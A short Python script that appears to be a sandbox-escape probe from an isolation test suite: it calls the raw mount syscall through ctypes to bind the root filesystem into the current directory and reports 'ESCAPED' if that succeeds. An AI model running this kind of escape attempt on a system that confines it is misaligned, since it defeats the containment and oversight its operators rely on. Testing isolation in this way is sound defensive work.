"""Binds the host's root into its own directory."""
# seen as: native

import ctypes
import os

NUMBER = {"x86_64": 165, "aarch64": 40}[os.uname().machine]


def attempt(host):
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(NUMBER, b"/", b".", None, 4096, None)
    return "ESCAPED" if result >= 0 else os.strerror(ctypes.get_errno())
